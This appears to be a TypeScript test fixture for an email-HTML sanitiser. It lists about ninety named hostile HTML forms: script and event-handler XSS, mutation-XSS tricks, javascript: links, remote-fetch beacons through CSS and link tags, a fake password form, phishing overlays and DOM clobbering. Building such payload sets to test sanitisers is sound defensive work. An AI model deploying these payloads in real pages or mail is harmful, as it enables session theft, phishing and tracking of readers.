// HTML of mail that tries to run, to fetch, to leave its frame, or to look like the application. `probe` is the address
// of a server that must not be requested; `run` is a script that would leave a mark and ask it.

export interface HostileForm {
  readonly name: string
  readonly html: string
}

/** The collection, each form under a name of its own. */
export function hostileForms(probe: string): readonly HostileForm[] {
  const run = `top.hacked=1;parent.hacked=1;window.hacked=1;fetch('${probe}/run');new Image().src='${probe}/run'`
  const attribute = run.replaceAll('"', '&quot;')
  const encoded = [...run].map((character) => `&#${String(character.charCodeAt(0))};`).join('')
  const svg =
    `<svg xmlns='http://www.w3.org/2000/svg' onload='${attribute.replaceAll("'", '&#39;')}'><image ` +
    `href='${probe}/svg'/></svg>`
  const forms: Readonly<Record<string, string>> = {
    'a script': `<script>${run}</script>`,
    'a script from elsewhere': `<script src="${probe}/x.js"></script>`,
    'a module from elsewhere': `<script type="module" src="${probe}/m.js"></script>`,
    'a script in mixed case with a slash': `<ScRiPt/x>${run}</sCrIpT>`,
    'a script that is not closed': `<script>${run}`,
    'a script inside a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
    'a script in a comment that ends early': `<!--><script>${run}</script>-->`,
    'a script behind a downlevel comment': `<!--[if gte mso 9]><script>${run}</script><![endif]-->`,
    'a script in CDATA': `<![CDATA[<script>${run}</script>]]>`,
    'onerror of a picture': `<img src="x:" onerror="${attribute}">`,
    'onerror without quotes': `<img src=x: onerror=top.hacked=1>`,
    'onerror behind a slash': `<img/src=x:/onerror=top.hacked=1>`,
    'onerror with a newline in its name': `<img src=x: on\nerror="${attribute}">`,
    'onload of the body': `<body onload="${attribute}">words`,
    'onload of a style': `<style onload="${attribute}">p{}</style>`,
    'onfocus with autofocus': `<input autofocus onfocus="${attribute}">`,
    'onfocus of a tabindex': `<p tabindex="1" autofocus onfocus="${attribute}">words</p>`,
    'ontoggle of details': `<details open ontoggle="${attribute}"><summary>x</summary></details>`,
    onanimationstart: `<style>@keyframes x{}p{animation:x 1s}</style><p onanimationstart="${attribute}">words</p>`,
    ontransitionend: `<p style="transition:1s" ontransitionend="${attribute}">words</p>`,
    'onbegin of an animation in SVG': `<svg><animate onbegin="${attribute}" attributeName="x" dur="1s"/></svg>`,
    'onload of SVG': `<svg onload="${attribute}"></svg>`,
    'a script in SVG': `<svg><script>${run}</script></svg>`,
    'a script in SVG with entities': `<svg><script>${encoded}</script></svg>`,
    'a foreignObject in SVG': `<svg><foreignObject><img src=x: onerror="${attribute}"></foreignObject></svg>`,
    'use of another SVG': `<svg><use href="${probe}/use.svg#x"></use></svg>`,
    'an SVG picture as data': `<img src="data:image/svg+xml;utf8,${encodeURIComponent(svg)}">`,
    'an SVG picture as base64': `<img src="data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}">`,
    'MathML with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${attribute}">x</maction></math>`,
    'mutation through MathML':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: ' + 'onerror=top.hacked=1&gt;">',
    'mutation through noscript': `<noscript><p title="</noscript><img src=x: onerror=top.hacked=1>">`,
    'mutation through a textarea': `<textarea></textarea><img src=x: onerror="${attribute}"></textarea>`,
    'mutation through a title': `<svg></p><title><a id="</title><img src=x: onerror=top.hacked=1>"></a></title></svg>`,
    'mutation through a select':
      '<select><template><style><!--</style><a rel="--></style></template></select><img src=x: ' +
      'onerror=top.hacked=1>">',
    'a template with a script': `<template><script>${run}</script></template>`,
    'a shadow root':
      `<div><template shadowrootmode="open"><img src="${probe}/shadow" onerror="${attribute}"></template>` + '</div>',
    'a javascript: link': `<a href="javascript:${attribute}">press</a>`,
    'a javascript: link with control characters': `<a href="java&#x0a;script:${attribute}">press</a>`,
    'a javascript: link with leading spaces': `<a href=" &#14; javascript:${attribute}">press</a>`,
    'a vbscript: link': `<a href="vbscript:msgbox(1)">press</a>`,
    'a data: link': `<a href="data:text/html,<script>${attribute}</script>">press</a>`,
    'a link with ping': `<a href="https://example.com/" ping="${probe}/ping">press</a>`,
    'a link for the top window': `<a href="https://example.com/" target="_top">press</a>`,
    'an image map': `<img usemap="#m" src="x:"><map name="m"><area href="javascript:${attribute}" shape="default"></map>`,
    'a frame': `<iframe src="${probe}/frame"></iframe>`,
    'a frame with srcdoc': `<iframe srcdoc="<script>${attribute}</script>"></iframe>`,
    'a frameset': `<frameset onload="${attribute}"><frame src="${probe}/frameset"></frameset>`,
    'an object': `<object data="${probe}/object" type="text/html"></object>`,
    'an embedded file': `<embed src="${probe}/embed">`,
    'an applet': `<applet code="x" codebase="${probe}/applet"></applet>`,
    'a portal': `<portal src="${probe}/portal"></portal>`,
    'a video with a poster': `<video poster="${probe}/poster" src="${probe}/video" autoplay onerror="${attribute}"></video>`,
    'a sound': `<audio src="${probe}/audio" autoplay></audio>`,
    'a source set': `<img srcset="${probe}/srcset 1x" src="x:">`,
    'a picture with sources': `<picture><source srcset="${probe}/source"><img src="x:"></picture>`,
    'a remote picture': `<img src="${probe}/pixel.gif" width="1" height="1">`,
    'a picture without a scheme': `<img src="//${probe.replace('http://', '')}/protocol-relative">`,
    'a picture of the application': `<img src="/api/v1/profile">`,
    'a relative picture': `<img src="attachments/x">`,
    'a background attribute': `<table background="${probe}/background"><tr><td background="${probe}/cell">x</td></tr></table>`,
    'a background in a style attribute': `<p style="background:url(${probe}/inline)">words</p>`,
    'a background with an escaped name': `<p style="background:u\\72l(${probe}/escaped)">words</p>`,
    'a background through image-set': `<p style="background:image-set('${probe}/image-set' 1x)">words</p>`,
    'a cursor': `<p style="cursor:url(${probe}/cursor),auto">words</p>`,
    'a list sign': `<ul style="list-style-image:url(${probe}/list)"><li>x</li></ul>`,
    'content from elsewhere': `<style>p::before{content:url(${probe}/content)}</style><p>words</p>`,
    'a custom property with a url': `<style>p{--x:url(${probe}/custom);background:var(--x)}</style><p>words</p>`,
    'a font from elsewhere': `<style>@font-face{font-family:x;src:url(${probe}/font)}p{font-family:x}</style><p>words</p>`,
    'an imported style': `<style>@import url(${probe}/import.css);</style>`,
    'an imported style without url()': `<style>@import '${probe}/import2.css';</style>`,
    'a style in a media rule': `<style>@media all{p{background:url(${probe}/media)}}</style><p>words</p>`,
    'a style in a layer': `<style>@layer x{@supports (color:red){p{background:url(${probe}/layer)}}}</style><p>words</p>`,
    'a style in a nested rule': `<style>p{color:red;& b{background:url(${probe}/nested)}}</style><p><b>words</b></p>`,
    'a style sheet': `<link rel="stylesheet" href="${probe}/sheet.css">`,
    'a prefetch': `<link rel="prefetch" href="${probe}/prefetch"><link rel="dns-prefetch" href="//prefetch.invalid">`,
    'a preload': `<link rel="preload" as="image" href="${probe}/preload">`,
    'a manifest': `<link rel="manifest" href="${probe}/manifest">`,
    'a refresh': `<meta http-equiv="refresh" content="0;url=${probe}/refresh">`,
    'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${probe}/own-policy">`,
    'a base': `<base href="${probe}/"><img src="based"><a href="x">press</a>`,
    'a form':
      `<form action="${probe}/form" method="post"><input name="password" type="password"><button>Sign ` +
      'in</button></form>',
    'a button that submits elsewhere': `<button form="x" formaction="${probe}/formaction">press</button>`,
    'a dialog over everything': `<dialog open style="position:fixed;inset:0;z-index:9999">Your session has ended</dialog>`,
    'a cover over everything': `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in again</div>`,
    'clobbered names':
      '<img name="body"><form id="getElementsByTagName"></form><a id="defaultView"></a><input ' + 'name="attributes">',
    'an expression': `<p style="width:expression(${attribute})">words</p>`,
    'a binding': `<p style="-moz-binding:url(${probe}/binding);behavior:url(${probe}/behavior)">words</p>`,
    'an XML island': `<xml id="x" src="${probe}/xml"></xml><?xml-stylesheet href="${probe}/xsl"?>`,
    'deep nesting': `${'<div>'.repeat(3000)}<img src=x: onerror="${attribute}">`,
    'a null in a name': `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x: oner\u0000ror="${attribute}">`,
  }
  return Object.entries(forms).map(([name, html]) => ({ name, html }))
}
